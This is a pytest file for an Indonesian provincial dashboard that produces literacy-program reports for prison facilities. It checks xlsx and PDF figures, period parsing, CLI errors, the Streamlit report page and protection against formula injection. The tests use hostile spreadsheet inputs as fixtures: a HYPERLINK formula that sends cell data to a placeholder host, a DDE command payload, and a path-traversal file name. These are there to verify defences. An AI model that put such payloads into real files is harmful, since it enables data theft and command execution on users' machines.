"""Reports (xlsx and PDF) for a period and facilities: their figures are read
back (openpyxl, pypdf) and compared with values the test derives from the
warehouse with SQL of its own; the Laporan page equals the overview page; the
PDF without a browser is refused clearly while the xlsx still works; text that
looks like a formula stays text in every xlsx and CSV."""

from __future__ import annotations

import csv as csv_module
import datetime as dt
import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from pypdf import PdfReader
from streamlit.testing.v1 import AppTest

import reports
from etl.i18n import fmt_int, fmt_num
from reports import browser as report_browser
from reports.period import Period, PeriodError, parse
from tests import fixtures
from tests.conftest import ROOT, TODAY, run_cli
from tests.files import write_xlsx
from warehouse.db import connect

SHOTS = ROOT / "tests" / "screenshots"
D = dt.date
needs_browser = pytest.mark.skipif(report_browser.find_browser() is None,
                                   reason="no Chromium/Chrome for kaleido's charts (apt-get install -y chromium); "
                                          ".ci/run installs it")


def one(sql: str, params=()):
    with connect() as con:
        row = con.execute(sql, list(params)).fetchone()
    return row[0] if row else None


# the test's own SQL over the staging rows in force (not the marts the reports read)
LOANS = """SELECT sum(l.n_loans) FROM stg_loan l JOIN current_cell c ON c.dataset = 'loans' AND c.batch_id = l.batch_id
           AND c.facility_code = l.facility_code AND c.month = l.month AND c.part = l.service
           WHERE l.month BETWEEN ? AND ? AND l.facility_code LIKE ?"""
VISITORS = """SELECT sum(v.n_visitors) FROM stg_visit v JOIN current_cell c ON c.dataset = 'visits'
              AND c.batch_id = v.batch_id AND c.facility_code = v.facility_code AND c.month = v.month
              AND c.part = v.service
              WHERE v.month BETWEEN ? AND ? AND v.service = ? AND v.facility_code LIKE ?"""
OCCUPANTS = """SELECT occupants FROM occupancy_in_force WHERE facility_code = ? AND snapshot_date <= ?
               AND occupants IS NOT NULL ORDER BY snapshot_date DESC LIMIT 1"""


def rows(sheet) -> list[tuple]:
    return [tuple(c.value for c in row) for row in sheet.iter_rows()]


def row_of(sheet, text: str, column: int = 0, after: int = 0) -> tuple:
    for r, values in enumerate(rows(sheet)):
        if r >= after and len(values) > column and values[column] == text:
            return values
    raise AssertionError(f"no row {text!r} in sheet {sheet.title!r}")


def workbook(data: bytes, path: Path, formulas: bool = False):
    path.write_bytes(data)
    return openpyxl.load_workbook(path, data_only=not formulas)


def pdf_text(data: bytes, path: Path) -> str:
    path.write_bytes(data)
    return "\n".join(page.extract_text() for page in PdfReader(path).pages)


# ------------------------------------------------------------------- periods
def test_periods_as_written_on_the_command_line():
    assert parse("2024-08") == Period(D(2024, 8, 1), D(2024, 8, 1), "month")
    assert parse("2024-Q3") == Period(D(2024, 7, 1), D(2024, 9, 1), "quarter")
    assert parse("2024q4") == Period(D(2024, 10, 1), D(2024, 12, 1), "quarter")
    assert parse("2024") == Period(D(2024, 1, 1), D(2024, 12, 1), "year")
    assert parse("2024-06..2024-01") == Period(D(2024, 1, 1), D(2024, 6, 1), "custom")
    assert parse("bulan-lalu", today=D(2026, 11, 21)) == Period.month(2026, 10)
    assert parse("last-month", today=D(2026, 1, 5)) == Period.month(2025, 12)
    assert parse("terakhir", latest=D(2024, 8, 1)) == Period.month(2024, 8)
    for bad in ("2024-13", "Q3", "", "2024-Q5", "Agustus", "2024-01..", "2024/08"):
        with pytest.raises(PeriodError):
            parse(bad)
    assert [p.code for p in (parse("2024-08"), parse("2024-Q3"), parse("2024"), parse("2024-01..2024-06"))] == \
        ["2024-08", "2024-Q3", "2024", "2024-01..2024-06"]


def test_period_labels_in_both_languages():
    from ui.i18n import use_lang

    with use_lang("id"):
        assert [parse(p).label() for p in ("2024-08", "2024-Q3", "2024", "2024-01..2024-06")] == \
            ["Agustus 2024", "Triwulan III 2024", "Tahun 2024", "Jan 2024 – Jun 2024"]
        # a quarter still running ends at the latest month with data (compared with a period as long)
        running = parse("2026-Q4").clipped(D(2026, 10, 1))
        assert (running.start, running.end, running.label()) == (D(2026, 10, 1), D(2026, 10, 1),
                                                                 "Triwulan IV 2026 (s.d. Oktober 2026)")
        assert parse("2026-Q3").clipped(D(2026, 10, 1)).complete
    with use_lang("en"):
        assert [parse(p).label() for p in ("2024-08", "2024-Q3", "2024")] == ["August 2024", "Q3 2024", "Year 2024"]


# ------------------------------------------------------------------- xlsx
def test_xlsx_figures_equal_the_warehouse(small_env, tmp_path):
    content, data = reports.build(parse("2024-08"), fmt="xlsx", lang="id")
    book = workbook(data, tmp_path / "laporan.xlsx")
    assert book.sheetnames == ["Ringkasan", "Fasilitas", "Peminjaman", "Kunjungan", "Pelatihan", "Kerja Sama",
                               "Kelengkapan"]
    summary = book["Ringkasan"]
    texts = [v for row in rows(summary) for v in row if isinstance(v, str)]
    for line in ("PEMERINTAH PROVINSI KALIMANTAN SELATAN", "DINAS PERPUSTAKAAN DAN KEARSIPAN", "LAPORAN BULANAN",
                 "Periode: Agustus 2024"):
        assert line in texts
    # headline figures: by hand (tests/fixtures.py) and by the test's own SQL
    aug, jul, aug23 = (D(2024, 8, 1),) * 2, (D(2024, 7, 1),) * 2, (D(2023, 8, 1),) * 2
    loans = [one(LOANS, [*p, "%"]) for p in (aug, jul, aug23)]
    assert loans == [700, 500, 60]
    header = row_of(summary, "Indikator")
    assert header[1:] == ("Agu 2024", "Jul 2024", "Perubahan", "Agu 2023", "Perubahan", "Catatan")
    # raw totals in the period columns; changes like for like: LPKA Martapura sent no July loans, so August
    # compares Rantau and Banjarmasin only (120 + 500 = 620 against 100 + 400), and Rantau only a year back
    # (120 against 60); August is provisional, twelve units' loan reports not in
    assert row_of(summary, "Peminjaman") == (
        "Peminjaman", 700, 500, pytest.approx(620 / 500 - 1), 60, pytest.approx(120 / 60 - 1),
        "sementara*; Jul 2024 sebanding: 2 dari 15 UPT; Agu 2023 sebanding: 1 dari 15 UPT")
    library = one(VISITORS, [*aug, "perpustakaan", "%"])
    pusling = one(VISITORS, [*aug, "pusling", "%"])
    assert (library, pusling) == (90, 45)
    assert row_of(summary, "Pengunjung perpustakaan")[1] == library
    assert row_of(summary, "Pengunjung pusling")[1:3] == (pusling, "–")  # no pusling in July: no comparison
    assert row_of(summary, "Sesi pelatihan")[1] == 2
    assert row_of(summary, "Peserta pelatihan")[1] == 27
    assert row_of(summary, "Fasilitas melapor: Peminjaman")[1:] == (3, "–", "–", "–", "–", "sementara*; dari 15 UPT")
    assert row_of(summary, "Fasilitas melapor: Kunjungan")[1] == 2  # LPKA Martapura: pusling only
    assert row_of(summary, "Fasilitas melapor: Pelatihan")[1] == 2
    notes = [v for v in texts if v.startswith("* Sementara: ")]
    assert notes == ["* Sementara: Peminjaman Agu 2024 (belum masuk: Lapas Amuntai, Lapas Banjarbaru, Lapas "
                     "Batulicin, Lapas Kotabaru, Lapas Narkotika Karang Intan dan 7 lainnya); Kunjungan Agu 2024 "
                     "(belum masuk: LPKA Martapura, Lapas Amuntai, Lapas Banjarbaru, Lapas Batulicin, Lapas Kotabaru "
                     "dan 8 lainnya); Pelatihan Agu 2024 (belum masuk: Lapas Amuntai, Lapas Banjarbaru, Lapas "
                     "Banjarmasin, Lapas Batulicin, Lapas Kotabaru dan 8 lainnya)."]
    assert row_of(summary, "Peminjam aktif")[1] == "–"  # recaps carry no ids
    # per 100 inmates: occupancy in force at the month's end (Rutan Rantau's only figure is of 2025)
    banjarmasin = one(OCCUPANTS, ["lapas-banjarmasin", D(2024, 8, 31)])
    lpka = one(OCCUPANTS, ["lpka-martapura", D(2024, 8, 31)])
    assert one(OCCUPANTS, ["rutan-rantau", D(2024, 8, 31)]) is None
    per100 = row_of(summary, "Per 100 WBP per bulan")
    rate = row_of(summary, "Peminjaman", after=rows(summary).index(per100))
    assert rate[1] == pytest.approx((500 + 80) / (banjarmasin + lpka) * 100)

    facilities = book["Fasilitas"]
    head = row_of(facilities, "No")
    assert head[1:5] == ("Fasilitas", "Jenis", "Kabupaten/Kota", "Peminjaman")
    assert head[11] == "Peminjaman per 100 WBP per bulan"
    by_name = {r[1]: r for r in rows(facilities)[rows(facilities).index(head) + 1:] if r[1]}
    for code, name in (("lapas-banjarmasin", "Lapas Banjarmasin"), ("rutan-rantau", "Rutan Rantau"),
                       ("lpka-martapura", "LPKA Martapura")):
        assert by_name[name][4] == one(LOANS, [*aug, code])
    assert by_name["Lapas Banjarmasin"][11] == pytest.approx(500 / banjarmasin * 100)
    assert by_name["LPKA Martapura"][11] == pytest.approx(80 / lpka * 100)
    assert by_name["Rutan Rantau"][11] == "tanpa penyebut"     # no occupancy figure yet
    assert by_name["Lapas Amuntai"][4] == "–"                 # never reported
    assert by_name["Lapas Amuntai"][11] == "–"                # has occupancy, but no report: not 'no denominator'
    assert by_name["JUMLAH"][4] == 700
    assert by_name["JUMLAH"][11] == pytest.approx(rate[1])

    # the dataset sheets: the monthly figures (12 months up to the period) and the facility x month grid
    monthly = book["Peminjaman"]
    months = {r[0].date(): r[1] for r in rows(monthly) if isinstance(r[0], dt.datetime) and r[0].day == 1
              and r[1] is not None and not isinstance(r[1], dt.datetime)}
    assert months[D(2024, 8, 1)] == 700 and months[D(2024, 7, 1)] == 500 and months[D(2024, 1, 1)] == "–"
    assert row_of(monthly, "Lapas Banjarmasin")[1:3] == (500, 500)
    assert row_of(book["Kunjungan"], "Rutan Rantau")[1] == 30 + 20 + 45
    training = book["Pelatihan"]
    assert row_of(training, "Pelatihan Hidroponik", column=2)[7:10] == (10, 2, 12)
    assert row_of(training, "Literasi")[1:3] == (2, 27)  # by topic
    status = {r[0]: r[1] for r in rows(book["Kerja Sama"]) if r[0]}
    assert status["Rutan Rantau"] == "belum ada"
    assert row_of(book["Kelengkapan"], "JUMLAH")[1] > 0


def test_xlsx_is_live_printable_and_charted(small_env, tmp_path):
    _, data = reports.build(parse("2024-Q3"), fmt="xlsx", lang="id")
    path = tmp_path / "triwulan.xlsx"
    book = workbook(data, path, formulas=True)
    # totals and changes are formulas, so they follow an edited figure
    assert str(row_of(book["Fasilitas"], "JUMLAH", column=1)[4]).startswith("=SUM(E")
    assert str(row_of(book["Ringkasan"], "Peminjam aktif")[3]).startswith("=IF(")
    # a like-for-like change is the figure over the units in both periods, not the totals' ratio: nobody
    # reported loans in May-June 2024, so there is none
    assert row_of(book["Ringkasan"], "Peminjaman")[2:4] == ("–", "–")
    for sheet in book.worksheets:
        assert sheet.page_setup.paperSize == 9  # A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert "&P" in sheet.oddFooter.right.text and "&N" in sheet.oddFooter.right.text
        assert sheet.print_area
    # native Excel charts over the cells (one per dataset sheet, and the facility ranking)
    with zipfile.ZipFile(path) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 4
        xml = " ".join(archive.read(n).decode() for n in charts)
    for sheet in ("Fasilitas", "Peminjaman", "Kunjungan", "Pelatihan"):
        assert f"{sheet}!$" in xml
    # Indonesian number and date formats, whatever the reader's locale
    cell = row_of(book["Ringkasan"], "Peminjaman")
    formats = {c.number_format for row in book["Peminjaman"].iter_rows() for c in row if c.value is not None}
    assert "[$-421]#,##0" in formats and "[$-421]mmmm yyyy" in formats
    assert cell[1] is not None
    # a quarter still running ends at the latest month with data
    assert "Periode: Triwulan III 2024 (s.d. Agustus 2024)" in [v for r in rows(book["Ringkasan"]) for v in r]
    # the document's title names the kind once (headers, footers, file properties)
    assert book.properties.title == "Laporan Triwulan III 2024 (s.d. Agustus 2024)"


def test_xlsx_in_english(small_env, tmp_path):
    _, data = reports.build(parse("2024-08"), fmt="xlsx", lang="en")
    book = workbook(data, tmp_path / "report.xlsx")
    assert book.sheetnames == ["Summary", "Facilities", "Loans", "Visits", "Training", "Agreements", "Completeness"]
    assert "Period: August 2024" in [v for r in rows(book["Summary"]) for v in r]
    assert row_of(book["Summary"], "Loans")[1:] == (
        700, 500, pytest.approx(620 / 500 - 1), 60, pytest.approx(1.0),
        "provisional*; Jul 2024 like for like: 2 of 15 units; Aug 2023 like for like: 1 of 15 units")
    assert any(str(v).startswith("* Provisional: Loans Aug 2024 (outstanding: Lapas Amuntai,")
               for r in rows(book["Summary"]) for v in r)
    assert row_of(book["Facilities"], "Rutan Rantau", column=1)[11] == "no denominator"
    assert row_of(book["Training"], "Literacy")[1:3] == (2, 27)  # by topic, the template's topic in English
    assert row_of(book["Training"], "Pelatihan Hidroponik", column=2)[3] == "Literacy"  # the title as written


@pytest.mark.slow  # a demo written and loaded
def test_demo_report_for_the_last_month(demo_env, tmp_path):
    from warehouse.metrics import data_range

    last = data_range()[1]
    assert last == D(2026, 10, 1)
    content, data = reports.build(parse("terakhir", latest=last), fmt="xlsx", lang="id")
    book = workbook(data, tmp_path / "demo.xlsx")
    month = (last, last)
    summary = book["Ringkasan"]
    assert row_of(summary, "Peminjaman")[1] == one(LOANS, [*month, "%"])
    assert row_of(summary, "Pengunjung perpustakaan")[1] == one(VISITORS, [*month, "perpustakaan", "%"])
    assert row_of(summary, "Pengunjung pusling")[1] == one(VISITORS, [*month, "pusling", "%"])
    facilities = book["Fasilitas"]
    codes = dict(zip(content.facilities["short_name"], content.facilities["code"]))
    listed = [r for r in rows(facilities) if r[1] in codes]
    assert len(listed) == 15
    for r in listed:
        assert r[4] == (one(LOANS, [*month, codes[r[1]]]) or "–"), r[1]
    assert reports.file_name(content, "xlsx", "id") == "laporan_pantau-literasi_2026-10.xlsx"


# ------------------------------------------------------------------- PDF
@needs_browser
@pytest.mark.slow
def test_pdf_shows_the_kpis_and_the_period(small_env, tmp_path):
    _, data = reports.build(parse("2024-08"), fmt="pdf", lang="id")
    text = pdf_text(data, tmp_path / "laporan.pdf")
    for expected in ("PEMERINTAH PROVINSI KALIMANTAN SELATAN", "DINAS PERPUSTAKAAN DAN KEARSIPAN", "LAPORAN BULANAN",
                     "Periode: Agustus 2024", "Halaman 1 dari", "Data terakhir dimuat", "Dibuat",
                     # the overview's card: 700 (raw), like for like +24,0 % (620 vs 500) and +100,0 % (120 vs 60)
                     "Peminjaman (sementara*) 700 500 +24,0% 60 +100,0%",
                     "Peminjaman: Jul 2024 sebanding: 2 dari 15 UPT;",
                     "Fasilitas melapor: Peminjaman\n(sementara*) 3 dari 15 UPT",
                     "* Sementara: Peminjaman Agu 2024 (belum masuk: Lapas Amuntai,",
                     "Lapas Banjarmasin 500", "tanpa penyebut", "Pelatihan Hidroponik"):
        assert expected in text, expected
    assert fmt_num(500 / one(OCCUPANTS, ["lapas-banjarmasin", D(2024, 8, 31)]) * 100, "id") in text
    reader = PdfReader(tmp_path / "laporan.pdf")
    assert reader.pages[0].mediabox.width == pytest.approx(595.28, abs=0.5)  # A4
    assert sum(len(page.images) for page in reader.pages) == 5  # the three trends, the ranking and the map


@needs_browser
@pytest.mark.slow
def test_demo_pdf_first_page_as_png(demo_env, tmp_path):
    content, data = reports.build(parse("2026-10"), fmt="pdf", lang="id")
    path = tmp_path / "laporan.pdf"
    text = pdf_text(data, path)
    loans = one(LOANS, [D(2026, 10, 1), D(2026, 10, 1), "%"])
    assert "Periode: Oktober 2026" in text
    assert f"Peminjaman {fmt_int(loans, 'id')} " in text  # formatted as the dashboard formats it (3.223)
    pages = len(PdfReader(path).pages)
    assert f"Halaman {pages} dari {pages}" in text
    if shutil.which("pdftoppm") is None:
        pytest.skip("pdftoppm not found (apt-get install -y poppler-utils); .ci/run installs it")
    SHOTS.mkdir(parents=True, exist_ok=True)
    subprocess.run(["pdftoppm", "-png", "-r", "110", "-f", "1", "-l", "1", "-singlefile", str(path),
                    str(SHOTS / "laporan-pdf-halaman-1")], check=True, timeout=120)
    assert (SHOTS / "laporan-pdf-halaman-1.png").stat().st_size > 20_000


def test_pdf_without_a_browser_is_refused_and_xlsx_still_works(small_env, tmp_path, monkeypatch):
    monkeypatch.setenv("PANTAU_CHROMIUM", str(tmp_path / "tidak-ada" / "chromium"))
    assert report_browser.find_browser() is None and reports.pdf_available() is None
    with pytest.raises(report_browser.BrowserMissing):
        reports.build(parse("2024-08"), fmt="pdf")
    run = etl(small_env, "report", "--period", "2024-08", "--format", "pdf", "-o", str(tmp_path / "l.pdf"),
              extra={"PANTAU_CHROMIUM": str(tmp_path / "tidak-ada" / "chromium")})
    assert run.returncode == 1
    assert run.stderr.startswith("galat: PDF tidak bisa dibuat: tidak ada Chromium/Chrome")
    assert len(run.stderr.strip().splitlines()) == 1 and "Traceback" not in run.stdout + run.stderr
    assert not (tmp_path / "l.pdf").exists()
    run = etl(small_env, "report", "--period", "2024-08", "--format", "xlsx", "-o", str(tmp_path / "l.xlsx"),
              extra={"PANTAU_CHROMIUM": str(tmp_path / "tidak-ada" / "chromium")})
    assert run.returncode == 0, run.stderr
    assert (tmp_path / "l.xlsx").stat().st_size > 5000


# ------------------------------------------------------------------- command line
def etl(env: dict, *args: str, extra: dict | None = None) -> subprocess.CompletedProcess:
    """``python -m etl *args`` in this process (tests/conftest.py run_cli): what a scheduled job runs,
    without a new interpreter's seconds of imports per command."""
    return run_cli({**env, **(extra or {})}, *args)


@pytest.mark.slow  # the command line in another Python process
def test_cli_report_for_a_scheduled_job(small_env, tmp_path):
    run = etl(small_env, "report", "--period", "2024-08", "--format", "xlsx", "-o", str(tmp_path / "agustus.xlsx"))
    assert run.returncode == 0, run.stderr
    assert run.stdout.splitlines() == [
        f"Laporan Agustus 2024 (15 fasilitas) ditulis ke {tmp_path / 'agustus.xlsx'}",
        "Angka sementara: Peminjaman Agu 2024 (belum masuk: Lapas Amuntai, Lapas Banjarbaru, Lapas Batulicin, Lapas "
        "Kotabaru, Lapas Narkotika Karang Intan dan 7 lainnya); Kunjungan Agu 2024 (belum masuk: LPKA Martapura, Lapas "
        "Amuntai, Lapas Banjarbaru, Lapas Batulicin, Lapas Kotabaru dan 8 lainnya); Pelatihan Agu 2024 (belum masuk: "
        "Lapas Amuntai, Lapas Banjarbaru, Lapas Banjarmasin, Lapas Batulicin, Lapas Kotabaru dan 8 lainnya)."]
    assert row_of(openpyxl.load_workbook(tmp_path / "agustus.xlsx", data_only=True)["Ringkasan"], "Peminjaman")[1] \
        == 700
    # a folder gets the default (safe) name; facilities by code or by name; English
    run = etl(small_env, "report", "--period", "2024-Q3", "--facility", "rutan-rantau", "--facility",
              "Lapas Kelas IIA Banjarmasin", "--format", "xlsx", "-o", str(tmp_path), "--lang", "en")
    assert run.returncode == 0, run.stderr
    written = tmp_path / "report_pantau-literasi_2024-Q3_2-upt.xlsx"
    assert run.stdout.splitlines() == [
        f"Report Q3 2024 (to August 2024) (2 facilities) written to {written}",
        # by hand: both sent loans for July and August; Rantau no July library visits; training: Banjarmasin in
        # July, Rantau in August
        "Provisional figures: Visits Jul 2024 (outstanding: Rutan Rantau); Training Jul 2024, Aug 2024 (outstanding: "
        "Lapas Banjarmasin, Rutan Rantau)."]
    summary = openpyxl.load_workbook(written, data_only=True)["Summary"]
    assert row_of(summary, "Loans")[1] == 100 + 120 + 400 + 500
    # user errors: one line, exit 1, nothing written
    for args, message in [
        (("--period", "2024-13", "--format", "xlsx", "-o", str(tmp_path / "x.xlsx")), "galat: periode '2024-13' "
         "tidak dikenal; tulis 2024-08 (bulan), 2024-Q3 (triwulan), 2024 (tahun), 2024-01..2024-06 (rentang), "
         "bulan-lalu atau terakhir"),
        (("--period", "2019-01", "-o", str(tmp_path / "x.xlsx")), "galat: tidak ada laporan untuk Januari 2019 dan "
         "fasilitas yang dipilih; tidak ada berkas yang ditulis"),
        (("--period", "2024-08", "-o", str(tmp_path / "x.txt")), "galat: sebutkan --format xlsx atau --format pdf "
         f"(akhiran '{tmp_path / 'x.txt'}' tidak menunjukkannya)"),
        (("--period", "2024-08", "-o", str(tmp_path / "tidak-ada" / "x.xlsx")),
         f"galat: folder {tmp_path / 'tidak-ada'} tidak ada"),
        (("--period", "2024-08", "--facility", "bapas-banjarmasin", "-o", str(tmp_path / "x.xlsx")),
         "galat: bapas-banjarmasin tidak menampung WBP; laporan hanya untuk Lapas, Rutan dan LPKA"),
    ]:
        run = etl(small_env, "report", *args)
        assert (run.returncode, run.stderr.strip(), run.stdout) == (1, message, ""), args
    assert not (tmp_path / "x.xlsx").exists() and not (tmp_path / "x.txt").exists()


@pytest.mark.slow
@needs_browser
def test_cli_pdf(small_env, tmp_path):
    run = etl(small_env, "report", "--period", "2024-08", "-o", str(tmp_path / "agustus.pdf"))
    assert run.returncode == 0, run.stderr
    assert "Periode: Agustus 2024" in pdf_text((tmp_path / "agustus.pdf").read_bytes(), tmp_path / "copy.pdf")


# ------------------------------------------------------------------- the Laporan page
def signed_in(page: str | None = None, **params) -> AppTest:
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=120)
    for key, value in params.items():
        at.query_params[key] = value
    at.run()
    at.text_input(key="login_username").input("kepala")
    at.text_input(key="login_password").input("sandi-kepala-dinas")
    at.button[0].click().run()
    if page:
        at.switch_page(page)
        at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def cards(at: AppTest) -> dict:
    return {m.label: (m.value, m.delta) for m in at.metric}


@pytest.mark.slow  # whole pages in Streamlit's AppTest: the fast tier keeps test_dashboard's walk of every page
def test_laporan_page_equals_the_overview(small_env):
    overview = cards(signed_in(dari="2024-08", sampai="2024-08"))
    at = signed_in("pages/laporan.py")
    assert at.title[0].value == "Laporan untuk dikirim"
    assert at.selectbox(key="report_month").value == D(2024, 8, 1)  # the last month with data
    assert cards(at) == overview
    assert cards(at)["Peminjaman"] == ("700", "+24,0%")  # like for like: LPKA Martapura sent no July loans
    assert at.get("status")[0].proto.label == "Angka laporan Agustus 2024 siap"
    buttons = {b.proto.label: b for b in at.get("download_button")}
    assert set(buttons) == {"Unduh xlsx", "Unduh PDF"}
    # a quarter: the latest that has ended by default; one still running says so and ends with the data
    at.segmented_control(key="report_kind").set_value("quarter").run()
    assert at.selectbox(key="report_quarter").value.label() == "Triwulan II 2024"
    running = at.selectbox(key="report_quarter").options[0]
    assert running == "Triwulan III 2024 (s.d. Agustus 2024)"
    at.selectbox(key="report_quarter").select_index(0).run()
    assert cards(at)["Peminjaman"][0] == "1.200"
    at.multiselect(key="report_facilities").set_value(["rutan-rantau"]).run()
    assert cards(at)["Peminjaman"][0] == "220"
    assert not at.exception
    # by default the report covers the facilities in view (the sidebar's filter)
    at = signed_in("pages/laporan.py", jenis=["Rutan"])
    assert cards(at)["Peminjaman"][0] == "120"
    assert at.caption[1].value == "Fasilitas: 6 UPT: Rutan Barabai, Rutan Kandangan, Rutan Marabahan, " \
                                  "Rutan Pelaihari, Rutan Rantau, Rutan Tanjung"


def test_laporan_page_reads_the_reports_queries_cached():
    """The Laporan page passes ``ui.data`` as the report's queries: every query a report reads is there,
    with the same arguments, cached over the very warehouse function the CLI's report calls."""
    import inspect

    from ui import data

    names = [name for name in vars(reports.Queries) if not name.startswith("_")]
    assert len(names) == 17  # issue 14: unit_notes, like_for_like, open flags; issue 15: the map's points, regencies; issue 16: lkjip
    for name in names:
        direct, cached = getattr(reports.Queries, name), getattr(data, name)
        assert cached.__wrapped__ is direct, name
        assert inspect.signature(cached) == inspect.signature(direct), name


@pytest.mark.slow  # whole pages in Streamlit's AppTest: the fast tier keeps test_dashboard's walk of every page
def test_laporan_page_without_a_browser(small_env, monkeypatch, tmp_path):
    monkeypatch.setenv("PANTAU_CHROMIUM", str(tmp_path / "tidak-ada"))
    at = signed_in("pages/laporan.py")
    pdf = [b for b in at.get("download_button") if b.proto.label == "Unduh PDF"][0]
    assert pdf.proto.disabled
    assert at.warning[0].value.startswith("PDF tidak tersedia: tidak ada peramban Chromium/Chrome di server ini")
    assert "Laporan xlsx tetap bisa diunduh." in at.warning[0].value
    xlsx = [b for b in at.get("download_button") if b.proto.label == "Unduh xlsx"][0]
    assert not xlsx.proto.disabled


@pytest.mark.slow  # whole pages in Streamlit's AppTest: the fast tier keeps test_dashboard's walk of every page
def test_laporan_page_when_nothing_was_reported(small_env):
    at = signed_in("pages/laporan.py")
    at.selectbox(key="report_month").set_value(D(2024, 1, 1)).run()
    assert at.info[0].value == "Tidak ada laporan untuk Januari 2024 dan fasilitas ini. Pilih periode lain."
    assert not at.get("download_button") and not at.exception


# ------------------------------------------------------------------- formula injection
ATTACKS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+62 811 0000", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture
def injected(env, request):
    """A warehouse whose training titles, organisers and agreement numbers look like formulas (built once per
    run and copied for each test: conftest.built_once)."""
    from tests.conftest import built_once
    from warehouse.ingest import load_paths
    from warehouse.load import load_records

    def build():
        files = fixtures.write_fixture_files(env / "files")
        training = write_xlsx(env / "files" / "pelatihan-jahat.xlsx", {"Pelatihan": [
            ["Fasilitas", "Judul Kegiatan", "Tanggal Mulai", "Peserta L", "Peserta P", "Penyelenggara", "Tempat"],
            ["Rutan Kelas IIB Rantau", ATTACKS[0], D(2024, 8, 22), 5, 1, ATTACKS[1], ATTACKS[3]],
            ["Lapas Kelas IIA Banjarmasin", ATTACKS[2], D(2024, 8, 23), 3, 0, "Dispersip Kalsel", "Aula"],
        ]})
        assert load_paths([str(f) for f in [*files, training]], user="sari", out=lambda line: None,
                          isolate=False) == 0
        valid_from = D(2024, 1, 2)
        record = pd.DataFrame([{
            "facility_code": "rutan-rantau", "month": valid_from, "agreement_key": f"{valid_from}|{ATTACKS[0]}",
            "number_dispersip": ATTACKS[0], "number_facility": ATTACKS[3], "signed_on": valid_from,
            "valid_from": valid_from, "valid_until": D(2026, 12, 31), "scope": "pusling", "document_sha256": None,
            "document_name": None, "notes": ATTACKS[2]}])
        load_records("agreements", record, name="PKS (uji)", loaded_by="admin")

    built_once(request, "formula-text", build)
    return env


def test_formula_text_stays_text_in_the_report(injected, tmp_path):
    _, data = reports.build(parse("2024-08"), fmt="xlsx", lang="id")
    path = tmp_path / "laporan.xlsx"
    path.write_bytes(data)
    book = openpyxl.load_workbook(path)  # formulas as written
    seen = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip("'").startswith(tuple("=+-@")) \
                        and not cell.value.startswith(("=SUM(", "=IF(")):
                    seen[cell.value] = cell.data_type
    for attack in (ATTACKS[0], ATTACKS[1], ATTACKS[2], ATTACKS[3]):
        assert seen.get("'" + attack) == "s", attack
    assert all(value.startswith("'") and kind == "s" for value, kind in seen.items()), seen


def test_formula_text_stays_text_in_table_downloads(injected):
    from ui import widgets
    from ui.i18n import use_lang
    from warehouse import metrics

    scope = metrics.Scope(D(2024, 8, 1), D(2024, 8, 1), ("rutan-rantau", "lapas-banjarmasin"))
    sessions = metrics.sessions(scope)[["title", "organiser", "place", "participants"]]
    with use_lang("id"):
        csv = widgets.to_csv(sessions).decode("utf-8-sig")
        xlsx = widgets.to_xlsx(sessions, "Sesi")
    cells = [cell for row in csv_module.reader(io.StringIO(csv), delimiter=";") for cell in row]
    for attack in ATTACKS:
        assert "'" + attack in cells, attack
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    path = Path(os.environ["PANTAU_DB"]).parent / "sesi.xlsx"
    path.write_bytes(xlsx)
    values = {c.value: c.data_type for row in openpyxl.load_workbook(path).active.iter_rows() for c in row}
    for attack in ATTACKS[:3]:
        assert values.get("'" + attack) == "s", attack


def test_download_names_are_safe(small_env):
    from etl.safety import safe_filename

    assert safe_filename("../../etc/passwd") == "etc_passwd"
    assert safe_filename("Laporan Agustus 2024 (final)?.xlsx") == "Laporan_Agustus_2024_final_.xlsx"
    assert safe_filename("=cmd|' /C calc'!A0.csv") == "cmd_C_calc_A0.csv"
    assert safe_filename("") == "unduhan"
    content = reports.gather(parse("2024-01..2024-08"), ("rutan-rantau",))
    assert reports.file_name(content, "pdf", "id") == "laporan_pantau-literasi_2024-01_sd_2024-08_rutan-rantau.pdf"
    assert re.fullmatch(r"[A-Za-z0-9._-]+", reports.file_name(content, "xlsx", "en"))


def test_today_and_generated_dates(small_env, tmp_path):
    content, data = reports.build(parse("2024-08"), fmt="xlsx", lang="id")
    assert content.today == D.fromisoformat(TODAY)
    book = workbook(data, tmp_path / "l.xlsx")
    # the agreements as they stood at the end of the period, not today
    assert "Status kerja sama (PKS) per 31 Agu 2024" in [v for r in rows(book["Kerja Sama"]) for v in r]
    generated = row_of(book["Ringkasan"], "Dibuat")[1]
    assert re.fullmatch(r"\d{1,2} \w{3} \d{4} \d{2}\.\d{2}", generated), generated


def test_serve_finds_the_browser_and_exports_it_for_kaleido(monkeypatch, tmp_path):
    from choreographer.browsers.chromium import Chromium

    from pantau.serve import find_browser

    monkeypatch.setenv("BROWSER_PATH", "")  # restored (unset) after the test
    monkeypatch.setenv("PANTAU_CHROMIUM", sys.executable)  # any executable stands in for a browser here
    said = []
    assert find_browser(out=said.append) == sys.executable
    assert os.environ["BROWSER_PATH"] == sys.executable
    assert Chromium.find_browser(skip_local=True) == sys.executable  # what kaleido's driver will start
    assert said == [f"Grafik PDF laporan digambar dengan {sys.executable}."]
    monkeypatch.setenv("PANTAU_CHROMIUM", str(tmp_path / "tidak-ada"))
    assert find_browser(out=said.append) is None
    assert said[-1].startswith("Chromium/Chrome tidak ditemukan: unduhan PDF laporan dinonaktifkan (xlsx tetap bisa).")


def letterhead(monkeypatch, tmp_path) -> None:
    """A configured kop: an emblem, an address, no contact line."""
    from PIL import Image

    Image.new("RGB", (120, 150), (15, 110, 110)).save(tmp_path / "lambang.png")
    monkeypatch.setenv("PANTAU_KOP_LOGO", str(tmp_path / "lambang.png"))
    monkeypatch.setenv("PANTAU_KOP_ADDRESS", "Jl. Contoh No. 1, Banjarbaru 70714")
    monkeypatch.setenv("PANTAU_KOP_CONTACT", "-")  # no contact line


def test_letterhead_is_configurable(small_env, tmp_path, monkeypatch):
    letterhead(monkeypatch, tmp_path)
